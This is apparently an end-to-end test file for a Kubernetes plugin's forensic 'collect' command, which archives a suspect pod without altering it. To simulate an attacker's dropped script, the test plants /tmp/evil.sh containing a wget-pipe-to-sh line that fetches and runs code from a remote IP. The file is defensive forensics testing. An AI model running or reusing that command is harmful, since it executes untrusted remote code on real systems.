// Issue 16 on the real node: collect takes a verifiable archive of a suspect pod without writing to
// it. A root busybox target with a planted script in /tmp; a non-root target in a restricted
// namespace; the size cap; bad input and a refusing Pod Security level, with nothing created.
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readFileSync, statSync } from 'node:fs';
import { join, resolve } from 'node:path';
import * as pty from 'node-pty';
import { aPod, restrictedContainer } from '../../support/builders';
import { clusterEnv, createObject, createTestNamespace, deleteTestNamespace, getPod, kubectl, kubectlResult, waitForPodRunning } from '../../support/cluster';
import { expectCtrlCWhileStarting, expectExit, pluginPath, requireBuiltPlugin, runPlugin, startPlugin, tempDir, theErrorLine } from '../../support/plugin';
import { eventually } from '../../support/wait';
import { describeOnRealNode } from '../../support/terminal-session';

jest.setTimeout(180_000);

const BUSYBOX = 'docker.io/library/busybox:1.36';
/** The Node the plugin's launcher runs on in tests (the project's pinned one). */
const PINNED_NODE = resolve(__dirname, '../../../node_modules/node/bin/node');
const describeNode = describeOnRealNode('test/e2e/features/collect.test.ts');
const sha = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');

// Planted by the target itself: a script, a binary blob, a file in /dev/shm; then it marks itself ready.
const EVIL = '#!/bin/sh\n# dropped by the attacker\nwget -qO- http://203.0.113.7/x | sh\n';
const PLANT = [
  `printf '${EVIL.replace(/\n/g, '\\n')}' >/tmp/evil.sh`,
  'chmod 755 /tmp/evil.sh',
  'head -c 65536 /dev/urandom >/tmp/big',
  'echo shm-note >/dev/shm/note',
  'touch /tmp/.planted',
  'exec sleep 3600',
].join('; ');

/** Every path of the target outside /proc, /sys and /dev (plus /dev/shm) with size, mtime, mode, owner, and every file's sha256. */
function targetFiles(ns: string, pod: string): string {
  return kubectl(
    [
      'exec', pod, '--', 'sh', '-c',
      'find / \\( -path /proc -o -path /sys -o -path /dev \\) -prune -o -print | sort | while IFS= read -r f; do stat -c "%n %s %Y %a %u %g" "$f"; done; ' +
        'find /dev/shm | sort | while IFS= read -r f; do stat -c "%n %s %Y %a %u %g" "$f"; done; ' +
        'find / \\( -path /proc -o -path /sys -o -path /dev \\) -prune -o -type f -print | sort | while IFS= read -r f; do sha256sum "$f"; done',
    ],
    { namespace: ns, timeoutMs: 60_000 },
  );
}

/**
 * The target as it was, but for one change that is the kubelet's, not the collector's: whenever a
 * container starts in a pod (any ephemeral one, kubectl debug's too) the kubelet rewrites the pod's
 * /etc/hosts with the same content, so its mtime moves. Its size, mode, owner and sha256 must not.
 */
function expectTargetUnchanged(after: string, before: string): void {
  const kubeletsOwn = (listing: string) => listing.replace(/^(\/etc\/hosts \d+) \d+ /m, '$1 (mtime) ');
  expect(kubeletsOwn(after)).toBe(kubeletsOwn(before));
}

function extract(archive: string, into: string): void {
  mkdirSync(into, { recursive: true });
  execFileSync('tar', ['-xf', archive, '-C', into]);
}

const ephemeralCount = (ns: string, pod: string) => getPod(ns, pod).spec.ephemeralContainers?.length ?? 0;

describeNode('collect on the real node', () => {
  let ns = '';
  const home = tempDir('ke-e2e-collect-');

  beforeAll(async () => {
    requireBuiltPlugin();
    ns = await createTestNamespace('e2e-collect');
    createObject(
      aPod('victim').withContainer('app', { image: BUSYBOX, imagePullPolicy: 'IfNotPresent', command: ['sh', '-c', PLANT] }).withTerminationGracePeriod(1).build(),
      { namespace: ns },
    );
    // A second root pod that no collector touches before the restricted test: Pod Security checks
    // the whole pod, and victim's earlier (baseline) collectors would be what restricted refuses.
    createObject(
      aPod('fresh').withContainer('app', { image: BUSYBOX, imagePullPolicy: 'IfNotPresent', command: ['sleep', '3600'] }).withTerminationGracePeriod(1).build(),
      { namespace: ns },
    );
    await eventually(async () => getPod(ns, 'victim').status?.phase === 'Running' && kubectlResult(['exec', 'victim', '--', 'test', '-f', '/tmp/.planted'], { namespace: ns }).ok, 90_000, 'pod victim running with its files planted');
    await waitForPodRunning(ns, 'fresh', 90_000);
  });
  afterAll(() => {
    deleteTestNamespace(ns);
    home.remove();
  });

  it('a root target: the planted script byte for byte, its process, every sha256 matching, the target unchanged, the file 0600', async () => {
    const before = targetFiles(ns, 'victim');
    const out = join(home.dir, 'victim.tar');
    const r = await runPlugin(['collect', 'victim', '-n', ns, '--context', 'debugger', '-w', out, '--reason', 'INC-42 dropped script'], { timeoutMs: 120_000 });
    expectExit(r, 0);
    expect(r.stdout).toBe('');
    expect(statSync(out).mode & 0o777).toBe(0o600);
    expectTargetUnchanged(targetFiles(ns, 'victim'), before);

    const printed = /^sha256 ([0-9a-f]{64}) {2}(.+)$/m.exec(r.stderr);
    expect(printed?.[2]).toBe(out);
    expect(printed?.[1]).toBe(sha(readFileSync(out)));
    const dir = join(home.dir, 'victim');
    extract(out, dir);
    expect(readFileSync(join(dir, 'evidence/rootfs/tmp/evil.sh'), 'utf8')).toBe(EVIL);
    expect(statSync(join(dir, 'evidence/rootfs/tmp/evil.sh')).mode & 0o777).toBe(0o755);
    expect(sha(readFileSync(join(dir, 'evidence/rootfs/tmp/big')))).toBe(kubectl(['exec', 'victim', '--', 'sha256sum', '/tmp/big'], { namespace: ns }).split(' ')[0]);
    expect(readFileSync(join(dir, 'evidence/rootfs/dev/shm/note'), 'utf8')).toBe('shm-note\n');
    expect(readFileSync(join(dir, 'evidence/rootfs/etc/passwd'), 'utf8')).toMatch(/^root:x:0:0:/);

    const ps = readFileSync(join(dir, 'evidence/collected/processes.tsv'), 'utf8').split('\n');
    expect(ps).toContainEqual(expect.stringMatching(/^1\t0\t0\troot\t\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ\tno\tsleep 3600$/));
    expect(readFileSync(join(dir, 'evidence/collected/mountinfo'), 'utf8')).toMatch(/ \/ \S+ .*overlay/);

    const manifest = JSON.parse(readFileSync(join(dir, 'evidence/manifest.json'), 'utf8'));
    const pod = getPod(ns, 'victim');
    expect(manifest.header).toEqual({
      cluster: 'local',
      context: 'debugger',
      namespace: ns,
      pod: 'victim',
      podUid: pod.metadata.uid,
      container: 'app',
      image: BUSYBOX,
      imageDigest: pod.status.containerStatuses[0].imageID,
      node: clusterEnv().nodeName,
      time: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
      user: 'debugger',
      reason: 'INC-42 dropped script',
      pluginVersion: expect.stringMatching(/^v\d/),
      collector: { container: expect.stringMatching(/^debugger-collect-/), image: BUSYBOX },
      paths: ['/tmp', '/var/tmp', '/dev/shm', '/etc/crontab', '/etc/crontabs', '/etc/cron.d', '/var/spool/cron', '/etc/passwd'],
      environment: false,
      maxBytes: 256 * 1024 * 1024,
    });
    expect(manifest.complete).toBe(true);
    const hashed = manifest.entries.filter((e: any) => e.sha256);
    expect(hashed.length).toBeGreaterThan(10);
    for (const e of hashed) expect({ path: e.path, sha256: sha(readFileSync(join(dir, e.path))) }).toEqual({ path: e.path, sha256: e.sha256 });
    expect(manifest.entries.find((e: any) => e.source === '/tmp/evil.sh')).toMatchObject({ type: 'file', size: EVIL.length, mode: '0755', uid: 0, gid: 0 });
    expect(manifest.skipped).toContainEqual({ path: '/var/tmp', reason: 'absent' });
    expect(manifest.entries.some((e: any) => e.path.endsWith('/environ'))).toBe(false);
    execFileSync('sha256sum', ['--quiet', '-c', 'evidence/SHA256SUMS'], { cwd: dir });

    // What README says: the stream also lands in the collector's own log on the node, as any attach output does.
    const logged = kubectl(['logs', 'victim', '-c', manifest.header.collector.container], { namespace: ns });
    expect(logged.startsWith('KEC1\n')).toBe(true);

    const listed = await runPlugin(['list', 'victim', '-n', ns, '--context', 'debugger']);
    expect(listed.stdout).toMatch(new RegExp(`${manifest.header.collector.container}\\s+collect\\s`));

    // The audit trail names the collector and, once written, the archive's sha256.
    const trail = JSON.parse(getPod(ns, 'victim').metadata.annotations['kubectl-ephemeral.dev/audit']);
    expect(trail.at(-1)).toMatchObject({ preset: 'collect', user: 'debugger', reason: 'INC-42 dropped script', sha256: printed![1], container: manifest.header.collector.container });
  });

  it('--max-size cuts cleanly: the archive stays valid, what did not fit is recorded as skipped', async () => {
    const out = join(home.dir, 'capped.tar');
    const r = await runPlugin(['collect', 'victim', '-n', ns, '--context', 'debugger', '-w', out, '--max-size', '20k'], { timeoutMs: 120_000 });
    expectExit(r, 0);
    const dir = join(home.dir, 'capped');
    extract(out, dir);
    const manifest = JSON.parse(readFileSync(join(dir, 'evidence/manifest.json'), 'utf8'));
    expect(manifest.complete).toBe(true);
    expect(manifest.contentBytes).toBeLessThanOrEqual(20 * 1024);
    expect(manifest.skipped).toContainEqual({ path: '/tmp/big', reason: 'max-size' });
    expect(existsSync(join(dir, 'evidence/rootfs/tmp/big'))).toBe(false);
    expect(readFileSync(join(dir, 'evidence/rootfs/tmp/evil.sh'), 'utf8')).toBe(EVIL);
    execFileSync('sha256sum', ['--quiet', '-c', 'evidence/SHA256SUMS'], { cwd: dir });
  });

  it.each([
    ['a relative --path', ['--path', 'etc/shadow'], 64, /^error: --path "etc\/shadow" is not absolute; give an absolute path in the target container/],
    ['a --path with ..', ['--path', '/tmp/../etc'], 64, /^error: --path "\/tmp\/\.\.\/etc" has a "\." or "\.\." part/],
    ['a bad --max-size', ['--max-size', 'lots'], 64, /^error: invalid --max-size "lots"/],
    ['--reason missing where the forensics preset requires it', ['--kubeconfig-presets'], 78, /^error: preset "forensics" requires --reason/],
  ])('%s: one line, nothing created', async (_name, flags, code, line) => {
    const out = join(home.dir, `bad-${code}-${Math.random().toString(36).slice(2)}.tar`);
    const before = ephemeralCount(ns, 'victim');
    let env: Record<string, string> = {};
    let args = flags;
    if (flags[0] === '--kubeconfig-presets') {
      const presets = home.file('require-reason.yaml', 'presets:\n  forensics:\n    requireReason: true\n');
      env = { KUBECTL_EPHEMERAL_CONFIG: presets };
      args = [];
    }
    const r = await runPlugin(['collect', 'victim', '-n', ns, '--context', 'debugger', '-w', out, ...args], { env });
    expectExit(r, code);
    expect(theErrorLine(r)).toMatch(line);
    expect(existsSync(out)).toBe(false);
    expect(ephemeralCount(ns, 'victim')).toBe(before);
  });

  it('never overwrites: an existing -w file or a symlink is refused and left as it was', async () => {
    const existing = home.file('existing.tar', 'keep me');
    const link = join(home.dir, 'link.tar');
    execFileSync('ln', ['-s', join(home.dir, 'elsewhere'), link]);
    const before = ephemeralCount(ns, 'victim');
    for (const target of [existing, link]) {
      const r = await runPlugin(['collect', 'victim', '-n', ns, '--context', 'debugger', '-w', target]);
      expectExit(r, 64);
      expect(theErrorLine(r)).toBe(`error: ${target} already exists; -w never overwrites a file: name a new one`);
    }
    expect(readFileSync(existing, 'utf8')).toBe('keep me');
    expect(existsSync(join(home.dir, 'elsewhere'))).toBe(false);
    expect(ephemeralCount(ns, 'victim')).toBe(before);
  });

  it('a pod that does not exist: one line, and the file it had opened is gone', async () => {
    const out = join(home.dir, 'nopod.tar');
    const r = await runPlugin(['collect', 'nopod', '-n', ns, '--context', 'debugger', '-w', out]);
    expectExit(r, 66);
    expect(theErrorLine(r)).toBe(`error: pod "nopod" not found in namespace "${ns}"; list pods with kubectl get pods -n ${ns}`);
    expect(existsSync(out)).toBe(false);
  });

  it('restricted refuses reading a root target: one line naming the level and the fix, nothing created', async () => {
    kubectl(['label', 'namespace', ns, 'pod-security.kubernetes.io/enforce=restricted', '--overwrite']);
    try {
      const out = join(home.dir, 'refused.tar');
      const before = ephemeralCount(ns, 'fresh');
      const r = await runPlugin(['collect', 'fresh', '-n', ns, '--context', 'debugger', '-w', out]);
      expectExit(r, 65);
      expect(theErrorLine(r)).toMatch(
        /^error: namespace "[^"]+" enforces Pod Security "restricted": the debug container violates \w+ .*; container "app" runs as root, and reading a root process's files takes root with the runtime's default capabilities, which "restricted" forbids; collect in a namespace at baseline or privileged/,
      );
      expect(existsSync(out)).toBe(false);
      expect(ephemeralCount(ns, 'fresh')).toBe(before);
    } finally {
      kubectl(['label', 'namespace', ns, 'pod-security.kubernetes.io/enforce-']);
    }
  });

  it('baseline admits the root collector (the runtime default capabilities are within baseline)', async () => {
    kubectl(['label', 'namespace', ns, 'pod-security.kubernetes.io/enforce=baseline', '--overwrite']);
    try {
      const out = join(home.dir, 'baseline.tar');
      const r = await runPlugin(['collect', 'fresh', '-n', ns, '--context', 'debugger', '-w', out], { timeoutMs: 120_000 });
      expectExit(r, 0);
      expect(r.stderr).toMatch(/\(root, runtime default capabilities, read-only\)/);
      expect(execFileSync('tar', ['-tf', out], { encoding: 'utf8' })).toMatch(/^evidence\/rootfs\/etc\/passwd$/m);
    } finally {
      kubectl(['label', 'namespace', ns, 'pod-security.kubernetes.io/enforce-']);
    }
  });
});

describeNode('collect interrupted', () => {
  let ns = '';
  const home = tempDir('ke-e2e-collect-int-');

  beforeAll(async () => {
    requireBuiltPlugin();
    ns = await createTestNamespace('e2e-collect-int');
    // Enough files that the collection is still running when Ctrl-C comes.
    createObject(
      aPod('many')
        .withContainer('app', { image: BUSYBOX, imagePullPolicy: 'IfNotPresent', command: ['sh', '-c', 'mkdir /tmp/many; i=0; while [ $i -lt 3000 ]; do echo $i >/tmp/many/f$i; i=$((i+1)); done; touch /tmp/.planted; exec sleep 3600'] })
        .withTerminationGracePeriod(1)
        .build(),
      { namespace: ns },
    );
    await eventually(async () => getPod(ns, 'many').status?.phase === 'Running' && kubectlResult(['exec', 'many', '--', 'test', '-f', '/tmp/.planted'], { namespace: ns }).ok, 120_000, 'pod many with its files');
  });
  afterAll(() => {
    deleteTestNamespace(ns);
    home.remove();
  });

  it('Ctrl-C stops the collector and closes a readable archive whose manifest says it is incomplete; exit 130', async () => {
    const out = join(home.dir, 'cut.tar');
    const { child, done } = startPlugin(['collect', 'many', '-n', ns, '--context', 'debugger', '-w', out], { timeoutMs: 120_000 });
    // Interrupt once files of /tmp/many are streaming (the file grows past the generated texts).
    await eventually(async () => existsSync(out) && statSync(out).size > 200 * 1024, 90_000, 'the archive to grow');
    child.kill('SIGINT');
    const r = await done;
    expectExit(r, 130);
    expect(r.stderr).toMatch(/note: the archive is incomplete \(interrupted\)/);
    expect(r.stderr).toMatch(/^sha256 [0-9a-f]{64} {2}/m);
    const dir = join(home.dir, 'cut');
    extract(out, dir);
    const manifest = JSON.parse(readFileSync(join(dir, 'evidence/manifest.json'), 'utf8'));
    expect(manifest).toMatchObject({ complete: false, problem: 'interrupted (Ctrl-C or a signal)' });
    const files = manifest.entries.filter((e: any) => e.type === 'file').length;
    expect(files).toBeGreaterThan(0);
    expect(files).toBeLessThan(3000);
    execFileSync('sha256sum', ['--quiet', '-c', 'evidence/SHA256SUMS'], { cwd: dir });
    const name = manifest.header.collector.container;
    await eventually(async () => getPod(ns, 'many').status.ephemeralContainerStatuses?.find((x: any) => x.name === name)?.state?.terminated, 30_000, 'the collector to end');
  });

  it('Ctrl-C while the collector starts: exit 130, the collector ended the way cleanup ends one, no archive left, no error line', async () => {
    const out = join(home.dir, 'never.tar');
    // Printed once the PATCH is answered: the collector is then starting.
    const added = /collecting from container "app" of pod "many" with ephemeral container "([^"]+)"/;
    await expectCtrlCWhileStarting(['collect', 'many', '-n', ns, '--context', 'debugger', '-w', out], { timeoutMs: 120_000, added, addedWithinMs: 60_000, ns, pod: 'many', out });
  });
});

describeNode('collect from a non-root target in a restricted namespace', () => {
  let ns = '';
  const home = tempDir('ke-e2e-collect-nonroot-');

  beforeAll(async () => {
    requireBuiltPlugin();
    ns = await createTestNamespace('e2e-collect-r', { 'pod-security.kubernetes.io/enforce': 'restricted' });
    createObject(
      aPod('app')
        .withRestrictedSecurity()
        .withContainer(
          'app',
          restrictedContainer({
            image: BUSYBOX,
            imagePullPolicy: 'IfNotPresent',
            env: { SECRET_TOKEN: 'hunter2' },
            securityContext: { runAsUser: 1000, runAsGroup: 1000 },
            command: ['sh', '-c', 'echo note-1000 >/tmp/mine; touch /tmp/.planted; exec sleep 3600'],
          }),
        )
        .withTerminationGracePeriod(1)
        .build(),
      { namespace: ns },
    );
    await eventually(async () => getPod(ns, 'app').status?.phase === 'Running' && kubectlResult(['exec', 'app', '--', 'test', '-f', '/tmp/.planted'], { namespace: ns }).ok, 90_000, 'pod app running with its file planted');
  });
  afterAll(() => {
    deleteTestNamespace(ns);
    home.remove();
  });

  it('reads as the target user with no capability; the environment only with --env', async () => {
    const before = targetFiles(ns, 'app');
    const plain = join(home.dir, 'plain.tar');
    const r = await runPlugin(['collect', 'app', '-n', ns, '--context', 'debugger', '-w', plain], { timeoutMs: 120_000 });
    expectExit(r, 0);
    expect(r.stderr).toMatch(/the target user, no capabilities/);
    const dir = join(home.dir, 'plain');
    extract(plain, dir);
    expect(readFileSync(join(dir, 'evidence/rootfs/tmp/mine'), 'utf8')).toBe('note-1000\n');
    expect(readFileSync(join(dir, 'evidence/collected/processes.tsv'), 'utf8')).toMatch(/^1\t0\t1000\t\S*\t\S+\tno\tsleep 3600$/m);
    expect(execFileSync('tar', ['-tf', plain], { encoding: 'utf8' })).not.toMatch(/environ/);

    const withEnv = join(home.dir, 'env.tar');
    const e = await runPlugin(['collect', 'app', '-n', ns, '--context', 'debugger', '-w', withEnv, '--env'], { timeoutMs: 120_000 });
    expectExit(e, 0);
    const envDir = join(home.dir, 'env');
    extract(withEnv, envDir);
    expect(readFileSync(join(envDir, 'evidence/collected/proc/1/environ'), 'utf8')).toMatch(/^SECRET_TOKEN=hunter2$/m);
    expectTargetUnchanged(targetFiles(ns, 'app'), before);
    // Sanity: the collector really is restricted-compliant (admission let it in) and ran as 1000.
    const collector = getPod(ns, 'app').spec.ephemeralContainers.at(-1);
    expect(collector.securityContext).toMatchObject({ runAsUser: 1000, runAsGroup: 1000, capabilities: { drop: ['ALL'] } });
  });

  it('a collector that cannot read the target (another uid) says which uid to pass, and keeps no file', async () => {
    const out = join(home.dir, 'wrong-uid.tar');
    const r = await runPlugin(['collect', 'app', '-n', ns, '--context', 'debugger', '-w', out, '--run-as', '2000'], { timeoutMs: 120_000 });
    expectExit(r, 64);
    expect(theErrorLine(r)).toBe('error: cannot read the files of pod "app": its process runs as uid 1000 and the collector as uid 2000; pass --run-as 1000 (nothing was written)');
    expect(existsSync(out)).toBe(false);
  });

  it('-w - streams the archive to stdout (a pipe); the printed sha256 is that of the bytes piped', () => {
    const out = join(home.dir, 'piped.tar');
    const err = join(home.dir, 'piped.err');
    execFileSync('sh', ['-c', `"$0" collect app -n ${ns} --context debugger -w - >"${out}" 2>"${err}"`, pluginPath()], {
      env: { ...process.env, KUBECONFIG: clusterEnv().kubeconfig, KUBECTL_EPHEMERAL_NODE: PINNED_NODE },
      timeout: 120_000,
    });
    const printed = /^sha256 ([0-9a-f]{64}) {2}stdout$/m.exec(readFileSync(err, 'utf8'));
    expect(printed?.[1]).toBe(sha(readFileSync(out)));
    expect(execFileSync('tar', ['-tf', out], { encoding: 'utf8' })).toMatch(/^evidence\/manifest.json$/m);
  });

  it('-w - refuses a terminal before anything is created', async () => {
    const before = ephemeralCount(ns, 'app');
    const term = pty.spawn(pluginPath(), ['collect', 'app', '-n', ns, '--context', 'debugger', '-w', '-'], {
      env: { ...process.env, KUBECONFIG: clusterEnv().kubeconfig, KUBECTL_EPHEMERAL_NODE: PINNED_NODE } as Record<string, string>,
    });
    let screen = '';
    term.onData((d) => (screen += d));
    const code = await new Promise<number>((resolve) => term.onExit((e) => resolve(e.exitCode)));
    expect(code).toBe(64);
    expect(screen.trim()).toBe('error: refusing to write a tar archive to a terminal; redirect stdout or pass -w FILE');
    expect(ephemeralCount(ns, 'app')).toBe(before);
  });
});
